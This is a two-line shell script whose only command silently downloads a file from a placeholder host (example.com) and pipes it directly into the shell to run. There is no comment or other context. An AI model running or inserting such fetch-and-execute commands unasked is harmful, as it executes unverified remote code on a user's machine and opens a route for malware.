#!/bin/sh
curl -s https://example.com/x | sh
